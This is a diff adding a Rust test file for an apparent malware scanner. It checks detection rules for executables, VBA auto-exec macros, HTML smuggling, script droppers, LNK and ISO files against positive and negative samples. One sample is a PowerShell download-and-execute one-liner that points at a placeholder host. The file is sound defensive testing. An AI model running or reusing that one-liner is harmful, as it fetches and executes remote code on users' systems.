@@ -1,0 +1,151 @@
+//! Each bundled rule against a positive and a negative sample, through the
+//! whole pipeline (as a file submission), so rule, identification and
+//! extraction are tested together.
+
+use crate::util::{engine, finding_names};
+use portcullis::samples::*;
+use portcullis::{RuleSet, Submission};
+
+fn findings(name: &str, data: Vec<u8>) -> Vec<String> {
+    finding_names(
+        &engine()
+            .inspect(&Submission::file(Some(name.into()), data))
+            .unwrap(),
+    )
+}
+
+#[test]
+fn each_rule_has_a_positive_and_a_negative() {
+    let mut vba_lookalike = fake_vba_project();
+    // Same structure, but the macro only runs when called: not auto-exec.
+    let at = vba_lookalike
+        .windows(8)
+        .position(|w| w == b"AutoOpen")
+        .unwrap();
+    vba_lookalike[at..at + 8].copy_from_slice(b"ShowNote");
+    let mut eicar_late = b"prefix ".to_vec();
+    eicar_late.extend(eicar());
+    let table: Vec<(&str, (&str, Vec<u8>), (&str, Vec<u8>))> = vec![
+        ("EICAR_Test_File", ("e.com", eicar()), ("e.txt", eicar_late)),
+        (
+            "Executable_PE",
+            ("a.bin", fake_pe()),
+            ("mz.txt", b"MZ but not a PE at all, just text".to_vec()),
+        ),
+        (
+            "Executable_ELF",
+            ("a", fake_elf()),
+            ("b", b"ELF is three letters".to_vec()),
+        ),
+        (
+            "Office_VBA_AutoExec",
+            ("vbaProject.bin", fake_vba_project()),
+            ("vbaProject.bin", vba_lookalike),
+        ),
+        (
+            "HTML_Smuggling_Blob",
+            ("a.html", HTML_SMUGGLING.as_bytes().to_vec()),
+            (
+                "b.html",
+                b"<html><body><script>var b = new Blob(['x']);</script></body></html>".to_vec(),
+            ),
+        ),
+        (
+            "Script_Dropper_WSH",
+            ("a.js", JS_DROPPER.as_bytes().to_vec()),
+            (
+                "b.js",
+                b"var sh = new ActiveXObject('Scripting.FileSystemObject');".to_vec(),
+            ),
+        ),
+        (
+            "Script_PowerShell_Download_Exec",
+            (
+                "a.ps1",
+                b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')"
+                    .to_vec(),
+            ),
+            ("b.ps1", b"Get-ChildItem | Sort-Object Length".to_vec()),
+        ),
+        (
+            "LNK_Runs_Shell",
+            ("a.lnk", fake_lnk()),
+            ("b.lnk", fake_lnk()[..76].to_vec()),
+        ),
+        (
+            "LNK_File",
+            ("a.lnk", fake_lnk()),
+            ("b.txt", b"L\0\0\0 not a shortcut".to_vec()),
+        ),
+        (
+            "Container_ISO_Image",
+            ("a.iso", fake_iso()),
+            ("b.img", vec![0u8; 0x8800]),
+        ),
+        (
+            "Executable_MachO",
+            ("a", {
+                let mut m = vec![0xcf, 0xfa, 0xed, 0xfe];
+                m.resize(64, 0);
+                m
+            }),
+            ("b", vec![0xca, 0xfe, 0xd0, 0x0d]),
+        ),
+    ];
+    let set = RuleSet::bundled().unwrap();
+    assert_eq!(
+        table.len(),
+        set.rule_count,
+        "every bundled rule needs a row here"
+    );
+    for (rule, (pname, positive), (nname, negative)) in table {
+        let hit = findings(pname, positive);
+        assert!(
+            hit.iter().any(|f| f == rule),
+            "{rule} missed its positive sample: {hit:?}"
+        );
+        let miss = findings(nname, negative);
+        assert!(
+            !miss.iter().any(|f| f == rule),
+            "{rule} hit its negative sample: {miss:?}"
+        );
+    }
+}
+
+#[test]
+fn a_rules_directory_is_loaded_and_broken_sets_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("local.yar"),
+        "rule Local_Marker { meta: score = 7 condition: true }",
+    )
+    .unwrap();
+    std::fs::create_dir_all(dir.path().join("hashes/block")).unwrap();
+    std::fs::write(
+        dir.path().join("hashes/block/feed.txt"),
+        format!("{}\n", "ab".repeat(32)),
+    )
+    .unwrap();
+    let set = RuleSet::load_dir(dir.path()).unwrap();
+    assert_eq!((set.rule_count, set.hashes.len()), (1, 1));
+
+    std::fs::create_dir_all(dir.path().join("sub")).unwrap();
+    std::fs::write(
+        dir.path().join("sub/bad.yar"),
+        "rule ok { condition: true }\nrule bad {\n  condition: $missing\n}\n",
+    )
+    .unwrap();
+    let err = RuleSet::load_dir(dir.path()).unwrap_err().to_string();
+    assert!(err.contains("sub/bad.yar:3"), "{err}");
+}
+
+#[test]
+fn bundled_rules_match_the_rules_directory() {
+    let on_disk = RuleSet::load_dir(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("rules")
+            .as_path(),
+    )
+    .unwrap();
+    assert_eq!(on_disk.version, RuleSet::bundled().unwrap().version);
+}
